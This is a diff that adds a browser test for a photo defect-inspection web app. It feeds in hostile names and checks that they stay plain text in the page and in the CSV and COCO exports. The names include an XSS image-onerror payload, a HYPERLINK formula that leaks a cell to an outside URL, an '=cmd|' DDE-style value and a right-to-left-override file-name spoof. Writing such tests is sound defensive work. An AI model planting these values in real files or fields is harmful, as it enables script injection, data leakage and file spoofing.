@@ -224,3 +224,92 @@ test('text that would become a script, or markup, is refused', async () => {
   await drop(page, [await sample()]);
   await defectRows(page).first().waitFor({ timeout: 60_000 });
 });
+
+const HOSTILE = {
+  markup: '<img class=hostile src=x onerror=alert(1)>',
+  formula: '=HYPERLINK("https://example.com/?"&A1)',
+  reversed: 'a\u202Egpj.exe',
+};
+
+/** The cells of a table, none of which a spreadsheet may take for a formula: numbers may begin with a sign. */
+function expectText(csv: string): void {
+  const cells = [...csv.matchAll(/(?:^|[,;\r\n])(?:"((?:[^"]|"")*)"|([^",;\r\n]*))/g)].map(
+    ([, quoted, plain]) => quoted ?? plain ?? '',
+  );
+  expect(cells.length).toBeGreaterThan(10);
+  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([]);
+}
+
+test('hostile names of photos, classes, models and lessons are text everywhere', async () => {
+  const { page, errors } = await stage.open({ url: strict.url, initScript: noteViolations });
+  page.on('dialog', () => {
+    throw new Error('A name has become a script.');
+  });
+  const { buffer, mimeType } = await sample();
+  const named = (name: string, i: number): NamedFile => ({
+    name: `${name}.jpg`,
+    mimeType,
+    buffer: Buffer.concat([buffer, Buffer.from([i])]),
+  });
+  await drop(page, Object.values(HOSTILE).map(named));
+  await photos(page).filter({ hasText: 'Done' }).nth(2).waitFor({ timeout: 60_000 });
+  expect(await photos(page).allTextContents()).toEqual(
+    expect.arrayContaining([expect.stringContaining('<img class=hostile')]),
+  );
+
+  const exported = (format: string) =>
+    page.evaluate(async (wanted) => {
+      const element = document.querySelector('defect-inspector') as unknown as {
+        export(format: string): Promise<Blob>;
+      };
+      return (await element.export(wanted)).text();
+    }, format);
+  expectText(await exported('csv'));
+
+  // Annotations with such classes and files, and the report of them.
+  const coco = JSON.parse(await exported('coco')) as {
+    images: { file_name: string }[];
+    categories: { name: string }[];
+  };
+  coco.images.forEach((image, i) => (image.file_name = `part-${i}.jpg`));
+  coco.categories.forEach((category, i) => (category.name = `${Object.values(HOSTILE)[i % 3]!} ${i}`));
+  const zip = buildZip([
+    { name: 'set/annotations.json', data: JSON.stringify(coco) },
+    ...coco.images.map(({ file_name }, i) => ({
+      name: `set/${file_name}`,
+      data: named('x', i).buffer,
+      isStored: true,
+    })),
+  ]);
+  await drop(page, [
+    { name: '=cmd|<b class=hostile>.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) },
+  ]);
+  await page.getByRole('button', { name: /^Inspect \d+ photos$/ }).click();
+  const table = page.getByRole('button', { name: 'CSV', exact: true });
+  const report = await saved(page, () => table.click({ timeout: 60_000 }));
+  expect(report).toContain('=cmd|');
+  expectText(report);
+  await page.keyboard.press('Escape');
+
+  // A model's own words, and a lesson's.
+  await drop(page, [await ownModel('own.onnx', '<u>=cmd|x</u>.x')]);
+  await page
+    .getByRole('button', { name: 'Models' })
+    .filter({ hasText: '<u>=cmd|x</u>.x' })
+    .waitFor({ timeout: 60_000 });
+  await run(page, 'lesson.start', { name: HOSTILE.markup });
+  await run(page, 'lesson.add-class', { name: HOSTILE.formula });
+  await page.locator('defect-lesson').getByText(HOSTILE.markup).waitFor();
+
+  const made = await page.evaluate(() => {
+    const elements = (root: ParentNode): Element[] =>
+      Array.from(root.querySelectorAll('*')).flatMap((one) => [
+        one,
+        ...(one.shadowRoot ? elements(one.shadowRoot) : []),
+      ]);
+    return elements(document).filter((one) => one.matches('.hostile, script:not([src]), u')).length;
+  });
+  expect(made).toBe(0);
+  expect(await violationsOf(page)).toEqual([]);
+  expect(errors).toEqual([]);
+});
